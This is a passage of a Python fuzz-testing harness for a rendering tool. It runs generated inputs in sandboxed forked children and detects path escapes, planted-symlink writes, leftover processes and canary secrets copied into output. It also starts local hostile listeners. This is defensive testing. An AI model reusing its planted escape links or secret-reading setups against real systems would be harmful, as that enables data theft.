            _HUGE_ENVMAPS[HUGE_ENVMAP] = _exr(np.ones((*HUGE_ENVMAP, 3), np.float32))
        inp.files["huge.exr"] = _HUGE_ENVMAPS[HUGE_ENVMAP]
        inp.files["scene.toml"] = assets.texts["sky.toml"].replace('"sky.exr"', '"huge.exr"').encode()
        inp.max_mib = 256  # a 16 x 16 render: the map is refused, or its cost bounded, not 400 MB of floats
    what = rng.random()
    if what < 0.55:
        inp.call = ["load_scene", "scene.toml"]
        inp.names = ["scene.toml"]
    elif what < 0.85:
        inp.call = ["cli", "render", "scene.toml", "--spp", "1", "--out", "out.exr", "--quiet"]
        if "huge.exr" in inp.files:
            inp.call += ["--set", "threads=1"]
    else:
        inp.call = ["cli", "export", "scene.toml", "--format", rng.choice(["obj", "gltf", "mitsuba-xml", "ply"]),
                    "--out", "exp"]
    return inp


COMMANDS = ["render", "ground-truth", "compare", "run", "baseline", "report", "convergence", "calibrate", "export",
            "bench", "stress"]


def gen_cli(rng, assets, index) -> Input:
    """The command line itself: no command, unknown commands, --help, missing arguments, stray tokens."""
    inp = Input("cli", index, ["cli"])
    roll = rng.random()
    if roll < 0.15:
        argv = rng.choice([["--help"], ["-h"], [rng.choice(COMMANDS), "--help"], ["baseline", "save", "--help"]])
    elif roll < 0.5:
        argv = [rng.choice(COMMANDS + ["", "rnder", "bogus", "-", "--", "baseline"])]
        inp.bad.append("command without its arguments")
    else:
        argv = [rng.choice(COMMANDS)] + [rng.choice(WORDS[:20] + ["--spp", "--out", "-1", "--json", "=", "--set"])
                                         for _ in range(rng.randint(1, 4))]
    argv = [a.replace("\x00", "") for a in argv]
    inp.call += argv
    return inp


GENERATORS = {  # entry point: (generator, weight); the weights sum to 10,000
    "load_scene": (gen_load_scene, 1100), "render": (gen_render, 1000), "load_suite": (gen_load_suite, 1000),
    "run": (gen_run, 600), "renderer_file": (gen_renderer_file, 700), "report": (gen_report, 500),
    "baseline": (gen_baseline, 500), "compare": (gen_compare, 900), "ground_truth": (gen_ground_truth, 300),
    "convergence": (gen_convergence, 250), "calibrate": (gen_calibrate, 250), "stress": (gen_stress, 250),
    "export": (gen_export, 300), "bench": (gen_bench, 150), "cli": (gen_cli, 200),
    # untrusted run folders, output folders and peers: nothing may reach outside the input's folder
    "results_paths": (gen_results_paths, 500), "planted_links": (gen_planted_links, 400),
    "hostile_peers": (gen_hostile_peers, 200), "misbehaving_renderers": (gen_misbehaving_renderers, 400),
    "mesh_references": (gen_mesh_references, 500),
}


def plan(total: int, only: list[str] | None = None) -> list[tuple[str, int]]:
    """(entry, index) for ``total`` inputs shared among the entry points by their weights (at least one each)."""
    names = [n for n in GENERATORS if not only or n in only]
    weights = {n: GENERATORS[n][1] for n in names}
    scale = total / sum(weights.values())
    counts = {n: max(1, round(w * scale)) for n, w in weights.items()}
    while sum(counts.values()) > total and max(counts.values()) > 1:
        counts[max(counts, key=counts.get)] -= 1
    while sum(counts.values()) < total:
        counts[max(weights, key=lambda n: weights[n] / counts[n])] += 1
    jobs = [(n, i) for n in names for i in range(counts[n])]
    random.Random(0).shuffle(jobs)  # a mix of cheap and costly inputs at every moment
    return jobs


def generate(seed: int, entry: str, index: int, assets: Assets) -> Input:
    rng = random.Random(f"{seed}:{entry}:{index}")
    return GENERATORS[entry][0](rng, assets, index)


# ---------------------------------------------------------------------------------------------------------------
# Outside the input: canaries, the state of the outside folder, planted links, leftover processes, hostile peers

#: what a script a hostile run folder ships would hold (found in a file the input wrote: ``copied``)
PAYLOAD = "FUZZ-PAYLOAD-5e1f"
#: the environment variable that holds an input's canary token, set in the forked child: every process the input
#: starts inherits it (a copy of its /proc/PID/environ holds it; it finds the processes left behind)
CANARY_VARIABLE = "FUZZ_CANARY"
#: the environment variable that holds the whole run's canary token, set before this script's interpreter started
#: (``main`` starts it again with it): the children's own /proc/self/environ holds it, as forks share that block
RUN_CANARY_VARIABLE = "FUZZ_RUN_CANARY"
#: terminal escapes: ESC and the bidirectional overrides and isolates (a renderer's output must not reach a terminal
#: raw)
RAW_ESCAPES = ("\x1b", *map(chr, range(0x202a, 0x202f)), *map(chr, range(0x2066, 0x206a)))
#: the most bytes of one written file, the most files, and the most bytes in all searched for canary tokens
SCAN_BYTES, SCAN_FILES, SCAN_TOTAL = 4 * 2**20, 400, 64 * 2**20
#: the listeners an input's call may name as ``@PEER:KIND@`` (ports filled in by :func:`start_peers`)
PEERS: dict[str, int] = {}
PEER_KINDS = ("garbage", "http", "silent", "close", "huge", "refused")


@dataclasses.dataclass(frozen=True)
class Canary:
    """An input's two random tokens: ``secret`` in the files of its ``outside`` folder, ``env`` in its environment."""

    secret: str
    env: str

    @classmethod
    def new(cls) -> Canary:
        return cls(f"secret-{os.urandom(12).hex()}", f"env-{os.urandom(12).hex()}")

    def tokens(self) -> dict[str, bytes]:
        tokens = {"the outside secret": self.secret.encode(), "the environment canary": self.env.encode(),
                  "the run folder's script payload": PAYLOAD.encode()}
        if os.environ.get(RUN_CANARY_VARIABLE):
            tokens["the run's environment canary"] = os.environ[RUN_CANARY_VARIABLE].encode()
        return tokens


def resolve(text: str, folder: Path) -> str:
    """``text`` with the placeholders an input may hold filled in: ``@OUTSIDE@`` (the sibling folder of files the
    input must not reach), ``@INPUT@`` (the input's folder) and ``@PEER:KIND@`` (a hostile listener's port)."""
    if "@" not in text:
        return text
    text = text.replace("@OUTSIDE@", str(folder.parent / "outside")).replace("@INPUT@", str(folder))
    for kind, port in PEERS.items():
        text = text.replace(f"@PEER:{kind}@", str(port))
    return text


def make_outside(folder: Path, canary: Canary) -> None:
    """The input's sibling folder ``outside``: secrets (text, and behind a PNG's and an EXR's magic number) whose
    last access time lies before their change time (a read moves it, relatime), a victim file and a victim folder."""
    outside = folder.parent / "outside"
    outside.mkdir(parents=True, exist_ok=True)
    secret = canary.secret.encode()
    files = {"secret.txt": b"secret " + secret + b"\n", "secret.png": b"\x89PNG\r\n\x1a\n" + secret,
             "secret.exr": b"\x76\x2f\x31\x01" + secret + b"\0" * 64, "victim.txt": b"a victim: keep me as I am\n"}
    for name, data in files.items():
        (outside / name).write_bytes(data)
    (outside / "victim-dir").mkdir(exist_ok=True)
    (outside / "victim-dir" / "keep.txt").write_bytes(b"keep\n")
    for name in files:
        if name.startswith("secret"):
            mtime = (outside / name).stat().st_mtime_ns
            os.utime(outside / name, ns=(mtime - 10**12, mtime))


def _tree(root: Path, skip: Path | None = None) -> dict[str, tuple]:
    """Every entry below ``root`` (links not followed, ``skip``'s subtree left out): relative name -> (type, size,
    mtime, link target, access time of a secret)."""
    state = {}
    for top, dirs, files in os.walk(root):
        if skip is not None and Path(top) == skip.parent:
            dirs[:] = [d for d in dirs if d != skip.name]
        for name in dirs + files:
            path = Path(top) / name
            if skip is not None and path == skip:
                continue
            try:
                st = os.lstat(path)
                target = os.readlink(path) if stat.S_ISLNK(st.st_mode) else None
            except OSError:
                continue
            atime = st.st_atime_ns if name.startswith("secret") else None
            state[str(path.relative_to(root))] = (stat.S_IFMT(st.st_mode), st.st_size, st.st_mtime_ns, target, atime)
    return state


@dataclasses.dataclass
class Watch:
    """What an input's call must leave alone, seen before it runs: the box around its folder (``outside``, copies
    beside the folder), the victim's bytes, the links planted in the folder, and the folder's own files."""

    box: Path
    folder: Path
    canary: Canary
    outside: dict[str, tuple]
    victim: bytes
    links: dict[str, str | None]
    inside: dict[str, tuple]

    @classmethod
    def before(cls, inp: Input, folder: Path, canary: Canary) -> Watch:
        box = folder.parent
        links = {name: _readlink(folder / name) for name in inp.links}
        return cls(box, folder, canary, _tree(box, skip=folder), _read_bytes(box / "outside" / "victim.txt"), links,
                   _tree(folder))

    def findings(self, stdout: str = "", stderr: str = "") -> dict[str, list[str]]:
        """{"link_write": [...], "escape": [...], "copied": [...], "removed_link": [...]}: what changed or was read
        outside (through a planted link: link_write), planted links turned elsewhere (escape) or removed (a hint),
        and which files the call wrote hold a canary token (raw or in base64) or are links out (copied)."""
        found = {"link_write": [], "escape": [], "copied": [], "read": [], "removed_link": []}
        targets = {}
        for name, target in self.links.items():
            now = _readlink(self.folder / name)
            if now is None:  # removed, or replaced by the command's own file: nothing outside changes (a hint)
                found["removed_link"].append(name)
            elif now != target:
                found["escape"].append(f"planted link {name} turned to {now}")
            if target:
                resolved = Path(target) if os.path.isabs(target) else (self.folder / name).parent / target
                targets[name] = os.path.normpath(resolved)
        after = _tree(self.box, skip=self.folder)
        changed = sorted(set(after) | set(self.outside))
        for rel in changed:
            old, new = self.outside.get(rel), after.get(rel)
            if old == new:
                continue
            what = "created" if old is None else "removed" if new is None else \
                "read" if old[:4] == new[:4] else "changed"
            path = os.path.normpath(self.box / rel)
            through = [n for n, t in targets.items() if path == t or path.startswith(t + os.sep)]
            kind = "read" if what == "read" else "link_write" if through else "escape"
            found[kind].append(f"{rel} {what}" + (f" through the planted link {through[0]}" if through else ""))
        if _read_bytes(self.box / "outside" / "victim.txt") != self.victim and not found["link_write"]:
            found["escape"].append("outside/victim.txt's bytes changed")
        inside = _tree(self.folder)
        for rel, entry in inside.items():
            if entry[0] == stat.S_IFLNK and rel not in self.inside:
                resolved = os.path.normpath((self.folder / rel).parent / entry[3])
                if not (resolved + os.sep).startswith(str(self.folder) + os.sep):
                    found["copied"].append(f"{rel}: a link written to {entry[3]}, outside the folder")
        written = [rel for rel, entry in inside.items() if entry[0] == stat.S_IFREG and self.inside.get(rel) != entry]
        tokens = self.canary.tokens()
        budget = SCAN_TOTAL
        for rel in sorted(written)[:SCAN_FILES]:
            data = _read_bytes(self.folder / rel, min(SCAN_BYTES, budget))
            budget -= len(data)
            found["copied"] += [f"{rel} holds {what}" for what, token in tokens.items()
                                if any(form in data for form in _forms(token))]
        for stream, text in (("stdout", stdout), ("stderr", stderr)):
            found["copied"] += [f"{stream} holds {what}" for what, token in tokens.items()
                                if token.decode() in text and token != PAYLOAD.encode()]
        return found


def _forms(token: bytes) -> list[bytes]:
    """``token`` as it may sit in a written file: raw, or inside base64 (a data URI) at any of the three offsets
    (the characters that depend on the neighbours left out)."""
    forms = [token]
    for shift in range(3):
        encoded = base64.b64encode(b"\0" * shift + token)
        forms.append(encoded[4 if shift else 0:-4])
    return forms


def _readlink(path: Path) -> str | None:
    try:
        return os.readlink(path)
    except OSError:
        return None


def _read_bytes(path: Path, limit: int = 2**20) -> bytes:
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def marked_processes(marker: str) -> list[int]:
    """The living processes whose environment holds ``marker`` (an input's canary: every process it started)."""
    needle = f"{CANARY_VARIABLE}={marker}".encode()
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/environ", "rb") as f:
                if needle in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def leftover_processes(canary: Canary, patience: float = 0.5) -> list[str]:
    """The processes an input started that are still alive after it ended (given ``patience`` seconds to go, as
    one killed a moment ago may still be leaving); each is killed. Returns their command lines."""
    deadline = time.monotonic() + patience
    found = marked_processes(canary.env)
    while found and time.monotonic() < deadline:
        time.sleep(0.05)
        found = marked_processes(canary.env)
    names = []
    for pid in found:
        names.append(_read_bytes(Path(f"/proc/{pid}/cmdline"), 300).replace(b"\0", b" ").decode("utf-8", "replace"))
        try:
            os.kill(pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass
    return names


def raw_escapes(text: str) -> list[str]:
    """The terminal escapes (ESC, bidirectional overrides) in ``text``, as their code points."""
    return sorted({f"U+{ord(c):04X}" for c in RAW_ESCAPES if c in text})


PEER_SERVER = r'''
import asyncio, json, os, struct, sys

async def drain(reader, seconds):
    try:
        async with asyncio.timeout(seconds):
            while await reader.read(65536):
                pass
    except BaseException:
        pass

def handler(kind):
    async def handle(reader, writer):
        try:
            if kind == "close":
                return
            if kind == "garbage":
                writer.write(bytes(range(256)) * 8 + os.urandom(2048))
            elif kind == "http":
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 13\r\n\r\n<html></html>")
            elif kind == "huge":
                writer.write(struct.pack("<QQQ", 2**62, 2**62, 2**40) + b"\xff" * 40)
            await writer.drain()
            await drain(reader, 90 if kind == "silent" else 5)
        except BaseException:
            pass
        finally:
            writer.close()
    return handle

async def main():
    ports = {}
    for kind in sys.argv[1].split(","):
        server = await asyncio.start_server(handler(kind), "127.0.0.1", 0)
        ports[kind] = server.sockets[0].getsockname()[1]
    print(json.dumps(ports), flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)

asyncio.run(main())
'''


def start_peers():
    """Start the hostile listeners (a process of their own, so that this one stays single-threaded for its forks):
    garbage, an HTTP answer, silence, a close at once, a huge frame length; and a port where nothing listens. Fills
    :data:`PEERS`; returns the process (stop it with :func:`stop_peers`)."""
    kinds = [k for k in PEER_KINDS if k != "refused"]
    proc = subprocess.Popen([sys.executable, "-c", PEER_SERVER, ",".join(kinds)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, start_new_session=True)
    PEERS.update(json.loads(proc.stdout.readline()))
    with socket.socket() as sock:  # a port that was free a moment ago: refused
        sock.bind(("127.0.0.1", 0))
        PEERS["refused"] = sock.getsockname()[1]
    return proc


def stop_peers(proc) -> None:
    try:
        proc.stdin.close()
        proc.wait(timeout=5)
    except Exception:  # noqa: BLE001 - a peer that will not go is killed
        proc.kill()
    PEERS.clear()


# ---------------------------------------------------------------------------------------------------------------
# Running one input in a forked child


@dataclasses.dataclass
class Limits:
    timeout: float = 60.0
    memory_gib: float = 1.0
    file_mib: int = 256
    mitsuba: bool = False


def materialize(inp: Input, folder: Path, assets: Assets, canary: Canary | None = None) -> None:
    """Write the input's folder, and beside it the folder ``outside`` (:func:`make_outside`); plant its named pipes
    and links. Placeholders in the files and link targets are filled in (:func:`resolve`)."""
    for path in (folder, folder.parent / "outside"):
        if path.exists():
            shutil.rmtree(path)
    folder.mkdir(parents=True)
    make_outside(folder, canary or Canary.new())
    # a path the input makes a file, a named pipe or a link holds nothing below it (a generator that replaced a
    # run's folder by one of these may have left that folder's files in the input)
    leaves = {*inp.files, *inp.fifos, *inp.links}
    shadowed = {name for name in (*inp.dirs, *inp.files, *inp.fifos, *inp.links)
                if any(str(parent) in leaves for parent in Path(name).parents)}
    for name in inp.dirs:
        if name in shadowed:
            continue
        (folder / name).mkdir(parents=True, exist_ok=True)
    for name, data in inp.files.items():
        if name in shadowed:
            continue
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if b"@OUTSIDE@" in data or b"@INPUT@" in data:
            data = resolve(data.decode("utf-8", "surrogateescape"), folder).encode("utf-8", "surrogateescape")
        path.write_bytes(data)
    for name in inp.fifos:
        if name in shadowed:
            continue
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(folder / name)
    for name, target in inp.links.items():
        if name in shadowed:
            continue
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(resolve(target, folder), folder / name)
    for name, asset in inp.copies.items():
        target = (folder / name).resolve()
        if not target.exists():
            target.write_bytes(assets.blobs[asset])


def _resident_mib() -> float:
    """This process's resident size in MiB (a forked child starts with it)."""
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def _peak_resident_mib() -> float:
    """This process's peak resident size in MiB (VmHWM), 0 where the kernel does not say."""
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) / 1024
    return 0.0


def _address_space() -> int:
    """This process's address-space size in bytes (what RLIMIT_AS limits)."""
    with open("/proc/self/statm") as f:
        return int(f.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")


def _apply_limits(limits: Limits) -> None:
    added = int(limits.memory_gib * 2**30)
    cap = _address_space() + added  # the forked child already maps what this process maps
    resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
    size = limits.file_mib * 2**20
    resource.setrlimit(resource.RLIMIT_FSIZE, (size, size))
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file beyond the cap is an OSError, not a silent death
    from harness.core import limits as harness_limits

    harness_limits.machine_memory = lambda: added  # renders may use half of what the child may add
    if not limits.mitsuba:
        sys.modules["mitsuba"] = None  # import mitsuba -> ImportError
        sys.modules["drjit"] = None


def call(inp_call: list[str]) -> dict:
    """Run the call in this process; returns {"rc": code} or {"loaded": type} or {"harness_error": text}; an
    exception escapes."""
    kind, args = inp_call[0], inp_call[1:]
    if kind == "cli":
        from harness.cli import main

        try:
            return {"rc": main(args)}
        except SystemExit as stop:  # argparse's --help; anything else as the interpreter would end
            if stop.code is None or isinstance(stop.code, int):
                return {"rc": stop.code or 0, "system_exit": traceback.format_exc()}
            print(stop.code, file=sys.stderr)
            return {"rc": 1, "system_exit": traceback.format_exc()}
    loader = _loader(kind)
    try:
        return {"loaded": type(loader(args[0])).__name__}
    except HarnessError as err:
        return {"harness_error": str(err)}


def _loader(kind: str):
    from harness.renderers.external import load_spec
    from harness.scene import load_scene
    from harness.running.cases import load_suite

    return {"load_scene": load_scene, "load_suite": load_suite, "load_spec": load_spec}[kind]


def _child(inp: Input, folder: Path, capture: Path, limits: Limits, canary: Canary | None = None) -> None:
    """In the forked child: isolate, run, record, and leave without running the parent's exit handlers."""
    status = 70
    try:
        os.setpgid(0, 0)
        os.chdir(folder)
        null = os.open(os.devnull, os.O_RDONLY)
        os.dup2(null, 0)
        out = os.open(capture.with_suffix(".stdout"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        err = os.open(capture.with_suffix(".stderr"), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.dup2(out, 1)
        os.dup2(err, 2)
        faulthandler.enable(file=err)  # a crash's Python stack goes to the input's stderr
        # new text streams on the file descriptors, as an interpreter starts with (under pytest sys.stdout and
        # sys.stderr are its capture objects, not the descriptors)
        sys.stdout = io.TextIOWrapper(io.FileIO(1, "w", closefd=False), encoding="utf-8", line_buffering=True)
        sys.stderr = io.TextIOWrapper(io.FileIO(2, "w", closefd=False), encoding="utf-8", errors="backslashreplace",
                                      line_buffering=True)
        for name in ("HARNESS_DEBUG", "HARNESS_ALLOW_OUTSIDE_PATHS"):
            os.environ.pop(name, None)
        os.environ[CANARY_VARIABLE] = (canary or Canary.new()).env
        signal.signal(signal.SIGINT, signal.default_int_handler)
        signal.signal(signal.SIGTERM, signal.SIG_DFL)
        _apply_limits(limits)
        # no main module to re-run: a worker pool's forkserver would otherwise run this script (or pytest) again
        # in every worker, from the input's folder, as `python -m harness` never does
        sys.modules["__main__"] = types.ModuleType("__main__")
        faulthandler.dump_traceback_later(max(1.0, limits.timeout - 2), file=sys.stderr)  # where a hang hangs
        resident = _resident_mib()  # what this child shares with its parent at the start: not the call's
        try:
            result = call([resolve(arg, folder) for arg in inp.call])
        except BaseException:  # noqa: BLE001 - whatever escapes is the finding
            result = {"exception": traceback.format_exc()}
            print(result["exception"], file=sys.stderr, end="")  # as the interpreter would
        result["added_mib"] = _peak_resident_mib() - resident
        sys.stdout.flush()
        sys.stderr.flush()
        gc.collect()  # what the call left (a renderer's output held in memory) may fill the address space
        try:
            _kill_descendants(os.getpid())  # a worker pool's forkserver has its own process group and would stay
        except OSError:  # /proc unreadable for want of memory: the run's own cleanup (the group) still follows
            pass
        capture.with_suffix(".json").write_text(json.dumps(result))
        status = 0
    except BaseException:  # noqa: BLE001
        try:
            capture.with_suffix(".json").write_text(json.dumps({"exception": traceback.format_exc()}))
        except BaseException:  # noqa: BLE001
            pass
    finally:
        os._exit(status)


def classify(inp: Input, result: dict | None, stdout: str, stderr: str, *, timed_out: bool,
             signalled: int | None) -> tuple[str, str]:
    """(outcome, detail) of one finished input."""
    if timed_out:
        return "hang", "killed after the time limit"
    if result is None:
        return "crash", f"killed by signal {signalled}" if signalled else "no result recorded"
    if "exception" in result:
        lines = result["exception"].strip().splitlines()
        return "traceback", lines[-1] if lines else "exception"
    text = stdout + stderr
    if "Traceback (most recent call last)" in text:
        return "traceback", next((line for line in reversed(stderr.splitlines()) if line.strip()), "Traceback")
    symptoms = [symptom for symptom in inp.symptoms if symptom in text]
    if symptoms:
        return "messy", f"the output shows {symptoms[0]!r}: {text.strip()[-200:]}"
    escapes = raw_escapes(text)
    if escapes:
        where = "stderr" if raw_escapes(stderr) else "stdout"
        return "raw_escape", f"{where} holds {', '.join(escapes)} raw: {text[:160]!r}"
    if "harness_error" in result:
        message = result["harness_error"]
        if len(message.splitlines()) != 1 or len(message) > 2000:
            return "messy", f"HarnessError of {len(message.splitlines())} lines, {len(message)} characters"
        if inp.names and not any(message.startswith(f"{name}: ") or message.startswith(f"{name}:")
                                 for name in _nameable(inp, message)):
            return "messy", f"names neither {inp.names[0]} nor a file it names: {message[:200]}"
        return "error", message
    if "loaded" in result:
        return ("silent", "; ".join(inp.bad)) if inp.bad else ("pass", result["loaded"])
    rc = result["rc"]
    if inp.succeeds and rc != 0:
        return "messy", f"exit {rc} where {inp.succeeds}: {text.strip()[-200:]}"
    if rc == 2:
        lines = stderr.splitlines()
        if len(lines) != 1 or not lines[0].startswith("harness: error: ") or stdout.strip():
            return "messy", f"exit 2 with {len(lines)} stderr lines and {len(stdout.splitlines())} stdout lines: " \
                            f"{(lines or [''])[-1][:200]}"
        return "error", lines[0]
    if rc in (0, 1):
        lies = [lie for lie in inp.lies if lie in stdout]
        if lies:
            return "silent", f"exit {rc} claiming {lies[0]!r}; " + "; ".join(inp.bad)
        if rc == 0 and inp.fails:
            return "silent", "exit 0; " + "; ".join(inp.fails)
        if inp.bad:
            return "silent", f"exit {rc}; " + "; ".join(inp.bad)
        return "pass", f"exit {rc}"
    return "messy", f"exit code {rc}"


#: what an input reached outside its folder (a finding of :meth:`Watch.findings`, or leftover processes) and its
#: outcome, strongest first: they win over what the call printed (a file outside read is an escape)
REACHED = (("link_write", "link_write"), ("escape", "escape"), ("copied", "copied"),
           ("leftover_process", "leftover_process"), ("read", "escape"))


def reach(outcome: str, detail: str, findings: dict[str, list[str]]) -> tuple[str, str]:
    """The outcome once what the input reached is known: the first finding of :data:`REACHED`, its detail followed
    by what the call itself ended in; else ``outcome`` as it was."""
    for kind, reached in REACHED:
        if findings.get(kind):
            return reached, f"{'; '.join(findings[kind])[:400]} (the call: {outcome}, {detail[:200]})"
    return outcome, detail


def _nameable(inp: Input, message: str) -> list[str]:
    """The files a loader's message may start with: the input's own, and any file it names (a string of the
    document that is an existing file's path, as given, beside the file, or a canonical scene's)."""
    names = list(inp.names)
    for name in inp.names:
        data = inp.files.get(name, b"")
        try:
            doc = tomllib.loads(data.decode("utf-8"))
        except (ValueError, UnicodeDecodeError, RecursionError):
            continue
        strings = [v for _, c, k in entries(doc) if isinstance(v := c[k], str) and v]
        base = Path(name).parent
        for s in strings:
            names += [s, str(base / s), str(ROOT / "scenes" / f"{s}.toml"),
                      str(base.parent / "scenes" / f"{s}.toml"), str(Path("scenes") / f"{s}.toml")]
    return names


def _listing(folder: Path) -> set[str]:
    try:
        return {str(p.relative_to(folder)) for p in folder.rglob("*")}
    except OSError:
        return set()


@dataclasses.dataclass
class Record:
    inp: Input
    outcome: str
    detail: str
    seconds: float
    wrote_on_error: list[str]
    removed_links: list[str] = dataclasses.field(default_factory=list)  # planted links the call removed (a hint)


class Runner:
    """Runs inputs in forked children, ``jobs`` at a time; keeps failing inputs in ``out/failures``."""

    def __init__(self, out: Path, assets: Assets, limits: Limits, jobs: int = 2, keep_all: bool = False):
        self.out, self.assets, self.limits, self.jobs, self.keep_all = out, assets, limits, jobs, keep_all
        self.work = out / "work"
        self.failures = out / "failures"
        self.work.mkdir(parents=True, exist_ok=True)
        self.failures.mkdir(parents=True, exist_ok=True)

    def run(self, inputs, on_record=None) -> list[Record]:
        pending = list(inputs)
        pending.reverse()
        running: dict[int, tuple[Input, float, Path, Path, set[str]]] = {}
        records = []
        while pending or running:
            while pending and len(running) < self.jobs:
                inp = pending.pop()
                folder = self.work / inp.id / "input"
                capture = self.work / f"{inp.id}.capture"
                canary = Canary.new()
                materialize(inp, folder, self.assets, canary)
                before = _listing(folder)
                watch = Watch.before(inp, folder, canary)
                sys.stdout.flush()
                sys.stderr.flush()
                pid = os.fork()
                if pid == 0:
                    _child(inp, folder, capture, self.limits, canary)
                try:
                    os.setpgid(pid, pid)
                except OSError:  # the child did it first
                    pass
                running[pid] = (inp, time.monotonic(), folder, capture, (before, watch, _resident_mib()))
            finished = []
            for pid, (inp, start, folder, capture, before) in running.items():
                done, status, usage = os.wait4(pid, os.WNOHANG)
                timed_out = False
                if not done and time.monotonic() - start > self.limits.timeout:
                    _kill_descendants(pid)
                    _kill_group(pid)
                    done, status, usage = os.wait4(pid, 0)
                    timed_out = True
                if done:
                    leftovers = leftover_processes(before[1].canary)  # before its process group goes
                    _kill_group(pid)  # leftovers: worker pools, renderer processes
                    finished.append(pid)
                    added = usage.ru_maxrss / 1024 - before[2]  # the child's peak over what it shared at its fork
                    records.append(self._finish(inp, status, timed_out, time.monotonic() - start, folder, capture,
                                                before[:2], leftovers, added))
                    if on_record:
                        on_record(records[-1])
            for pid in finished:
                del running[pid]
            if running and not finished:
                time.sleep(0.003)
        return records

    def _finish(self, inp, status, timed_out, seconds, folder, capture, before, leftovers=(), added_mib=0.0) -> Record:
        paths = {kind: capture.with_suffix(f".{kind}") for kind in ("stdout", "stderr", "json")}
        stdout = _read(paths["stdout"])
        stderr = _read(paths["stderr"])
        try:
            result = json.loads(paths["json"].read_text())
        except (OSError, ValueError):
            result = None
        signalled = os.WTERMSIG(status) if os.WIFSIGNALED(status) else None
        before, watch = before
        outcome, detail = classify(inp, result, stdout, stderr, timed_out=timed_out, signalled=signalled)
        if isinstance(result, dict) and isinstance(result.get("added_mib"), (int, float)):
            added_mib = max(added_mib, result["added_mib"])  # the child's own peak over its start: its parent's
            # history (a test process whose peak came from an earlier test) does not hide it
        if inp.max_mib and added_mib > inp.max_mib and outcome in ("pass", "error", "silent"):
            outcome, detail = "messy", f"used {added_mib:.0f} MiB, over its {inp.max_mib} MiB ({outcome}, {detail})"
        findings = watch.findings(stdout, stderr)
        findings["leftover_process"] = [f"still running: {name}" for name in leftovers]
        outcome, detail = reach(outcome, detail, findings)
        removed = findings["removed_link"]
        wrote = []
        if outcome == "error" and inp.call[0] == "cli":
            wrote = sorted(_listing(folder) - before)
        record = Record(inp, outcome, detail, seconds, wrote, removed)
        if outcome in FAILURES or self.keep_all:
            self._keep(record, folder, stdout, stderr, result)
        shutil.rmtree(folder.parent, ignore_errors=True)
        for path in paths.values():
            path.unlink(missing_ok=True)
        return record

    def _keep(self, record: Record, folder: Path, stdout: str, stderr: str, result) -> None:
        """Save the input (its files as generated, not as the run left them) for --replay."""
        inp = record.inp
        target = self.failures / inp.id
        materialize(inp, target / "input", self.assets)
        (target / "input.json").write_text(json.dumps(inp.to_json(), indent=1))
        (target / "outcome.json").write_text(json.dumps({"outcome": record.outcome, "detail": record.detail,
                                                         "seconds": record.seconds, "result": result}, indent=1))
        (target / "stdout").write_text(stdout)
        (target / "stderr").write_text(stderr)
        (target / "replay.sh").write_text(replay_script(inp, (target / "input").resolve()))


def _descendants(pid: int) -> list[int]:
    """Every living process below ``pid`` (from /proc)."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                ppid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
        children.setdefault(ppid, []).append(int(entry))
    found, todo = [], [pid]
    while todo:
        for child in children.get(todo.pop(), []):
            found.append(child)
            todo.append(child)
    return found


def _kill_descendants(pid: int) -> None:
    for child in _descendants(pid):
        try:
            os.kill(child, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass


def _kill_group(pid: int) -> None:
    try:
        os.killpg(pid, signal.SIGKILL)
    except (ProcessLookupError, PermissionError):
        pass


def _read(path: Path, limit: int = 200_000) -> str:
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except OSError:
        return ""


def replay_script(inp: Input, folder: Path = Path("input")) -> str:
    """A shell script that runs the input's call in its saved ``folder`` (placeholders filled in for it)."""
    python = shlex.quote(sys.executable)
    if inp.call[0] == "cli":
        command = f"{python} -m harness " + " ".join(shlex.quote(resolve(a, folder)) for a in inp.call[1:])
    else:
        module = {"load_scene": "harness.scene", "load_suite": "harness.running.cases",
                  "load_spec": "harness.renderers.external"}[inp.call[0]]
        command = f"{python} -c " + shlex.quote(f"from {module} import {inp.call[0]}; print({inp.call[0]}("
                                                f"{inp.call[1]!r}))")
    return (f"#!/bin/sh\n# {inp.id}: bad because: {'; '.join(inp.bad) or '-'}\ncd \"$(dirname \"$0\")/input\" && "
            f"PYTHONPATH={shlex.quote(str(ROOT))} {command}\n")


def _copy_entry(source: str, target: str) -> None:
    """shutil.copytree's copy of one entry: a named pipe made again (opening it would wait for a writer)."""
    if stat.S_ISFIFO(os.lstat(source).st_mode):
        os.mkfifo(target)
    else:
        shutil.copy2(source, target)


def replay(folder: Path) -> int:
    """Run a saved input again in this process, in a copy of its folder; what it prints and raises shows."""
    import tempfile

    spec = json.loads((folder / "input.json").read_text())
    print(f"{spec['entry']}-{spec['index']:05d}: {' '.join(spec['call'])}", file=sys.stderr)
    print(f"bad because: {'; '.join(spec['bad']) or '-'}", file=sys.stderr)
    with tempfile.TemporaryDirectory(prefix="harness-replay-") as tmp:
        work = Path(tmp) / "input"
        for name in ("input", "outside"):
            if (folder / name).exists():
                shutil.copytree(folder / name, Path(tmp) / name, symlinks=True, copy_function=_copy_entry)
        saved = str(folder.resolve())
